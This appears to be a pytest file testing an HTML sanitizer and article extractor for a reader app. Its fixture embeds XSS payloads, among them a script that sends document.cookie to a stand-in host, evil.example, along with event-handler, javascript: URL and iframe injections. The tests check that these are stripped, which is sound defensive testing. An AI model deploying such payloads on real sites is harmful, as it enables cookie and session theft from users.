import pytest

from reader.core.errors import ExtractionError
from reader.fetch.extractor import extract_article, sanitize_html
from tests.helpers import make_fetch_result

MALICIOUS_HTML = """
<html>
<head><title>Harmless looking post</title><script>steal()</script></head>
<body>
  <article>
    <p>This paragraph is long enough for the extractor to keep it as the main
    content of the page, describing a quiet walk along the river at dawn while
    the city slowly wakes up and the first boats head out.</p>
    <script>document.location='https://evil.example/?c='+document.cookie</script>
    <p onclick="steal()">The second paragraph continues the story with more detail
    about the herons standing in the shallows, the mist rising off the water and
    the smell of fresh bread from the bakery on the corner.</p>
    <img src="https://example.com/heron.jpg" onerror="steal()" alt="heron">
    <a href="javascript:steal()">click me</a>
    <iframe src="https://evil.example/frame"></iframe>
    <p>A final paragraph wraps up the walk, noting that mornings like this are
    the reason to get up early even in the middle of winter, when it is cold.</p>
  </article>
</body>
</html>
"""

class TestSanitizeHTML:
    """Unit tests for the allow-list sanitizer"""

    def test_script_removed(self):
        cleaned = sanitize_html("<p>hi</p><script>alert(1)</script>")
        assert "<script" not in cleaned
        assert "<p>hi</p>" in cleaned

    def test_event_handlers_removed(self):
        cleaned = sanitize_html('<p onmouseover="alert(1)">hi</p>')
        assert "onmouseover" not in cleaned
        assert "<p>hi</p>" in cleaned

    def test_javascript_urls_removed(self):
        cleaned = sanitize_html('<a href="javascript:alert(1)">x</a>')
        assert "javascript:" not in cleaned

    def test_safe_markup_kept(self):
        html = '<h2>Title</h2><p><a href="https://example.com/a">link</a> <em>em</em></p><img src="https://example.com/i.png" alt="i">'
        cleaned = sanitize_html(html)
        assert "<h2>Title</h2>" in cleaned
        assert 'href="https://example.com/a"' in cleaned
        assert 'src="https://example.com/i.png"' in cleaned

    def test_dangerous_containers_removed(self):
        cleaned = sanitize_html('<iframe src="https://evil.example"></iframe><object data="x"></object><style>p{}</style>')
        assert "iframe" not in cleaned
        assert "<object" not in cleaned
        assert "<style" not in cleaned

    def test_comments_removed(self):
        assert "<!--" not in sanitize_html("<p>a<!-- secret --></p>")

class TestExtractArticle:
    """Unit tests for readability extraction plus sanitization"""

    def test_extracts_main_content(self):
        article = extract_article(make_fetch_result())
        assert article.title == "Understanding Tide Pools"
        assert "Tide pools are rocky hollows" in article.content
        assert "Copyright Coastal Notes" not in article.content

    def test_relative_links_made_absolute(self):
        article = extract_article(make_fetch_result(final_url="https://example.com/post"))
        assert 'href="https://example.com/more"' in article.content

    def test_xss_payloads_stripped(self):
        article = extract_article(make_fetch_result(MALICIOUS_HTML))
        assert "quiet walk along the river" in article.content
        assert "<script" not in article.content
        assert "onclick" not in article.content
        assert "onerror" not in article.content
        assert "javascript:" not in article.content
        assert "iframe" not in article.content

    def test_unparseable_document(self, monkeypatch):
        from readability.readability import Unparseable

        def broken_summary(self, html_partial=False):
            raise Unparseable("empty document")

        monkeypatch.setattr("reader.fetch.extractor.Document.summary", broken_summary)
        with pytest.raises(ExtractionError) as exc_info:
            extract_article(make_fetch_result())
        assert exc_info.value.status_code == 422
